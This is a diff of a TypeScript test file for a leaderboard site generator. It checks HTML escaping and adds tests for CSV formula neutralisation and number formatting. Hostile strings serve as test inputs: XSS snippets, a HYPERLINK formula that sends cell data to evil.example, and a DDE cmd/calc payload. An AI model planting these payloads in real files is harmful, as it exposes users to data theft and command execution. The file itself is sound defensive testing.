@@ -1,4 +1,6 @@
+import fc from 'fast-check'
 import { beforeAll, describe, expect, it } from 'vitest'
+import { formatNumber } from '../../src/core/text.js'
 import { HtmlValidate } from 'html-validate'
 import { blockedFiles } from '../../src/validate/publishable.js'
 import { buildSiteModel } from '../../src/model/site.js'
@@ -7,7 +9,7 @@ import type { NormalizeResult } from '../../src/registry/types.js'
 import { lineChart, ticks } from '../../src/render/chart.js'
 import { snapshotCsv } from '../../src/render/data.js'
 import { safeUrl } from '../../src/render/escape.js'
-import { renderSite, type OutputFile } from '../../src/render/site.js'
+import { renderAll, type OutputFile } from '../../src/render/site.js'
 import { parseBaseUrl } from '../../src/render/urls.js'
 import { seedStore } from './helpers.js'
 
@@ -30,7 +32,7 @@ function hostile(): OutputFile[] {
   model.organization = 'Evil "Org" <b>&'
   model.aliases.push("<img src=x onerror='alert(1)'>")
   const site = buildSiteModel({ normalized, fileDiagnostics: [], files: [], blocked: new Set() })
-  return renderSite(site, { base: parseBaseUrl('/'), registry: normalized.registry })
+  return renderAll(site, { base: parseBaseUrl('/'), registry: normalized.registry })
 }
 
 describe('render', () => {
@@ -47,8 +49,9 @@ describe('render', () => {
     expect(model).toContain('<h1>&lt;script&gt;alert(&quot;name&quot;)&lt;/script&gt;</h1>')
     expect(model).toContain('<code>&lt;img src=x onerror=&#39;alert(1)&#39;&gt;</code>')
     const board = html.find((f) => f.path === 'boards/lmarena-text/index.html')!.content
-    expect(board).toContain('<a class="external" href="https://example.org/m?a=1&amp;b=2" rel="nofollow noopener" title="Upstream page of gpt-5.1-high" aria-label="Upstream page of gpt-5.1-high">↗</a>')
-    expect(board).toContain('data-org="Evil &quot;Org&quot; &lt;b&gt;&amp;"')
+    expect(board).toContain('<a class="external" href="https://example.org/m?a=1&amp;b=2" rel="nofollow noopener" aria-label="Upstream page of gpt-5.1-high">↗</a>')
+    expect(board).toMatch(/<td class="t"><a href="\/organizations\/[^"]+\/">Evil &quot;Org&quot; &lt;b&gt;&amp;<\/a><\/td>/)
+    expect(board).toContain('data-search="grok-4.1 &lt;img src=x onerror=&#39;alert(1)&#39;&gt;"')
     // Still valid HTML with hostile text in it.
     const validator = new HtmlValidate({ extends: ['html-validate:recommended'] })
     for (const path of ['models/grok-4.1/index.html', 'boards/lmarena-text/index.html', 'index.html']) {
@@ -57,6 +60,39 @@ describe('render', () => {
     }
     const feed = files.find((f) => f.path === 'feed.xml')!.content
     expect(feed).not.toContain('<script>')
+  })
+
+  it('neutralises CSV text cells that a spreadsheet would run as formulas; numbers stay numbers', () => {
+    const s = structuredClone(seeds.snapshots.find((x) => x.board === 'lmarena-text')!)
+    const row = s.rows[0]!
+    s.rows = [
+      { ...row, name: '=HYPERLINK("https://evil.example/?x="&A1,"click")', organization: '+cmd|\' /C calc\'!A0', license: '@SUM(1+1)' },
+      { ...row, model: 'b', rank: 2, name: '-2+3', organization: '\tTabbed', license: '\rReturn', score: -12.5, votes: 0 },
+      { ...row, model: 'c', rank: 3, name: 'plain name', organization: 'a=b', license: 'MIT' }
+    ]
+    const lines = snapshotCsv(s).split('\r\n')
+    const header = lines[0]!.split(',')
+    expect(header.slice(0, 6)).toEqual(['model', 'rank', 'rankUpper', 'rankLower', 'name', 'score'])
+    expect(lines[1]).toContain(`,"'=HYPERLINK(""https://evil.example/?x=""&A1,""click"")",`)
+    expect(lines[1]).toContain(`,"'+cmd|' /C calc'!A0","'@SUM(1+1)"`)
+    expect(lines[2]).toContain(`,"'-2+3",-12.5,`)
+    expect(lines[2]).toContain(`,"'\tTabbed","'\rReturn"`)
+    expect(lines[3]).toContain(',plain name,')
+    expect(lines[3]).toContain(',a=b,MIT')
+    // No field of any line starts like a formula once parsed (quotes removed).
+    for (const line of lines.slice(1, 4)) {
+      for (const field of line.match(/("(?:[^"]|"")*"|[^,]*)(?=,|$)/g)!.filter((f) => f !== '')) {
+        const value = field.startsWith('"') ? field.slice(1, -1).replace(/""/g, '"') : field
+        if (!/^-?\d+(\.\d+)?$/.test(value)) expect(value, line).not.toMatch(/^[=+\-@\t\r]/)
+      }
+    }
+  })
+
+  it('formats whole numbers as Intl does (en-US), by its own faster path', () => {
+    const intl = new Intl.NumberFormat('en-US', { maximumFractionDigits: 0 })
+    fc.assert(fc.property(fc.maxSafeInteger(), (n) => formatNumber(n) === intl.format(n)), { numRuns: 2000 })
+    for (const n of [0, -0, 999, 1000, -1000, 1234567]) expect(formatNumber(n)).toBe(intl.format(n))
+    expect(formatNumber(1451.567)).toBe('1,451.57')
   })
 
   it('quotes CSV fields that need it', () => {
